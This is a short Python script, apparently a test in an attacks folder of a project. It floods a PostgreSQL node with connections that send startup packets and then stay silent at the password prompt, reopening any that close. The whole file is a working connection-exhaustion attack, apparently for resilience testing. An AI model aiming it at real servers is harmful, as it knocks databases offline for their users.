"""A machine that opens connections with a node, says at most whose they would be, and opens again those that end.

python -m tests.ataques.mudos ADDRESS PORT HOW_MANY {nada,arranque,replica} [FROM]   (until it is ended)
"""

import selectors
import socket
import struct
import sys

DESDE = "127.0.0.66"
VERSION = 196_608
SIN_PUERTO = 24  # IP_BIND_ADDRESS_NO_PORT: the port is chosen when it connects, so the same may go to others
DICE = {
    "nada": b"",
    "arranque": b"user\0est-01-2\0database\0prep\0\0",
    "replica": b"user\0prep_replica\0database\0prep\0replication\0database\0\0",
}


def paquete(modo: str) -> bytes:
    """How a session begins: the length, the version of the protocol, whose it is."""
    cuerpo = struct.pack("!I", VERSION) + DICE[modo]
    return struct.pack("!I", len(cuerpo) + 4) + cuerpo if DICE[modo] else b""


def abrir(destino: tuple[str, int], ojos: selectors.BaseSelector, desde: str) -> None:
    enchufe = socket.socket()
    enchufe.setblocking(False)
    enchufe.setsockopt(socket.SOL_IP, SIN_PUERTO, 1)
    enchufe.bind((desde, 0))
    enchufe.connect_ex(destino)
    ojos.register(enchufe, selectors.EVENT_WRITE)


def insistir(destino: tuple[str, int], cuantos: int, saludo: bytes, desde: str = DESDE) -> None:
    with selectors.DefaultSelector() as ojos:
        for _ in range(cuantos):
            abrir(destino, ojos, desde)
        while True:
            for clave, _ in ojos.select():
                enchufe = clave.fileobj
                assert isinstance(enchufe, socket.socket)
                if not _sigue(enchufe, clave.events, saludo):
                    ojos.unregister(enchufe)
                    enchufe.close()
                    abrir(destino, ojos, desde)
                elif clave.events == selectors.EVENT_WRITE:
                    ojos.modify(enchufe, selectors.EVENT_READ)


def _sigue(enchufe: socket.socket, eventos: int, saludo: bytes) -> bool:
    """Says what it has to say, or hears; False when it was ended."""
    try:
        if eventos == selectors.EVENT_WRITE:
            return enchufe.send(saludo) == len(saludo)
        return enchufe.recv(4096)[:1] == b"R"  # asked for its password: it says nothing
    except OSError:
        return False


if __name__ == "__main__":
    insistir((sys.argv[1], int(sys.argv[2])), int(sys.argv[3]), paquete(sys.argv[4]), *sys.argv[5:])
